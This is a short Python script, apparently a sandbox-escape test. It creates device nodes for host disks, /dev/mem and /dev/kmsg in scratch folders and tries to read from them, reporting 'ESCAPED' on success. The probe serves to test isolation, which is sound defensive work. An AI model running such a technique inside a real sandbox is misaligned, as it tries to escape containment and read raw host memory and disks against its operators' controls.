# Aims at the host's disk and memory: create device nodes (the host disk, /dev/mem, /dev/kmsg) under the
# marker name in the scratch folder and read from them. ESCAPED when a created node can be read.
import os
import stat

for name, kind, major, minor in (
    ("virtio disk", stat.S_IFBLK, 254, 0),
    ("scsi disk", stat.S_IFBLK, 8, 0),
    ("nvme disk", stat.S_IFBLK, 259, 0),
    ("/dev/mem", stat.S_IFCHR, 1, 1),
    ("/dev/kmsg", stat.S_IFCHR, 1, 11),
):
    for d in dict.fromkeys(("/tmp", os.getcwd(), "/dev/shm")):
        path = os.path.join(d, "start_tui_escape_marker")
        try:
            os.mknod(path, kind | 0o600, os.makedev(major, minor))
        except OSError as e:
            print("mknod", name, "in", d, "refused:", e.strerror)
            continue
        try:
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            data = os.read(fd, 16)
            os.close(fd)
            print(f"ESCAPED: read {len(data)} bytes through a {name} node made in {d}")
        except OSError as e:
            print("made", name, "node in", d, "but it does not open:", e.strerror)
        finally:
            os.remove(path)
